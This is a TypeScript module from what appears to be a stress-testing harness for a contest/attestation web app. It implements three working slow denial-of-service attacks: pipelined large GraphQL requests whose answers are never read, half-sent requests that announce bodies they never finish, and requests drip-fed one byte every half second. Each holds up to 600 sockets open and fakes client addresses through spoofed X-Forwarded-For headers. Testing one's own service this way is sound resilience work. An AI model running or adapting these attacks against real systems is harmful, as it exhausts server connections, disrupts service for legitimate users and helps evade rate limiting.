import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { type Attack, type ContestTarget, findSource } from './attack.ts';
import { nameFailure } from './figures.ts';

const SOCKETS = 600;

/** Opens connections as fast as they are accepted, up to 600 at a time, and records how and when each ended. */
async function holdSockets(
  target: ContestTarget,
  write: (socket: Socket, host: string, path: string) => void,
) {
  const { random, signal, record, apiUrl, scanUrl } = target;
  const open = new Set<Socket>();
  while (!signal.aborted) {
    if (open.size >= SOCKETS) {
      await sleep(20);
      continue;
    }
    const { hostname, port, host, pathname } = new URL(random.pick([apiUrl, scanUrl]));
    const started = performance.now();
    const socket = connect(Number(port), hostname);
    open.add(socket);
    let answer = '';
    let failure: string | undefined;
    const readStatus = (bytes: Buffer) => {
      if (answer.length < 20) answer += bytes.toString('latin1');
    };
    socket.on('data', readStatus);
    socket.once('error', (error) => {
      failure = nameFailure(error);
    });
    socket.once('close', () => {
      open.delete(socket);
      const status = /^HTTP\/1\.1 (\d+)/.exec(answer)?.[1];
      if (!signal.aborted) record(status ?? failure ?? 'closed', performance.now() - started);
    });
    socket.once('connect', () => write(socket, host, pathname));
    await sleep(2);
  }
  for (const socket of open) {
    record('still open', 0);
    socket.destroy();
  }
}

const toRequest = (
  target: ContestTarget,
  method: string,
  host: string,
  path: string,
  headers: readonly string[],
  body = '',
) =>
  [
    `${method} ${path} HTTP/1.1`,
    `Host: ${host}`,
    `X-Forwarded-For: ${findSource(target.random)}`,
    ...headers,
    '',
    body,
  ].join('\r\n');

const question = JSON.stringify({ query: '{ attestations(take: 1000) { id data decodedDataJson } }' });

/** Requests large answers, several in a row per connection, and reads none of them. */
const unreadAnswers: Attack = {
  name: 'unread answers',
  run: (target) =>
    holdSockets(target, (socket, host, path) => {
      socket.pause();
      const headers = ['Content-Type: application/json', `Content-Length: ${question.length}`];
      const request =
        path === '/graphql'
          ? toRequest(target, 'POST', host, path, headers, question)
          : toRequest(
              target,
              'GET',
              host,
              target.random.pick(['/', '/contests', '/preview.png', '/api/openapi.json']),
              [],
            );
      socket.write(request.repeat(target.random.between(1, 20)));
    }),
};

const UPLOADS = '/api/documents';
const BODIES: readonly (readonly [string, string, number])[] = [
  ['/api/siwe/verify', 'application/json', 2_000],
  [UPLOADS, 'application/octet-stream', 262_144],
];

/** Announces a body and sends part of it, or half of the headers. */
const halfSent: Attack = {
  name: 'half-sent requests',
  run: (target) =>
    holdSockets(target, (socket, host, path) => {
      const [where, type, bytes] = target.random.pick(
        path === '/graphql' ? [[path, 'application/json', 2_000]] : BODIES,
      );
      const headers = [`Content-Type: ${type}`, 'Origin: http://localhost:3000', `Content-Length: ${bytes}`];
      const body = where === UPLOADS ? 'x'.repeat(bytes - 1) : '{"message":"';
      const request = toRequest(target, 'POST', host, where, headers, body);
      socket.write(request.slice(0, target.random.pick([30, 90, request.length])));
    }),
};

/** Sends a byte every half second, of the headers or of the body. */
const dripFed: Attack = {
  name: 'drip-fed requests',
  run: (target) =>
    holdSockets(target, (socket, host, path) => {
      const where = path === '/graphql' ? path : '/api/siwe/verify';
      const headers = [
        'Content-Type: application/json',
        'Origin: http://localhost:3000',
        'Content-Length: 9000',
      ];
      const request = toRequest(target, 'POST', host, where, headers, '{"message":"'.padEnd(9_000, 'a'));
      let sent = target.random.pick([5, request.length - 8_980]);
      socket.write(request.slice(0, sent));
      const drip = setInterval(() => {
        socket.write(request.slice(sent, sent + 1));
        sent += 1;
      }, 500);
      socket.once('close', () => clearInterval(drip));
    }),
};

export const socketAttacks: readonly Attack[] = [unreadAnswers, halfSent, dripFed];
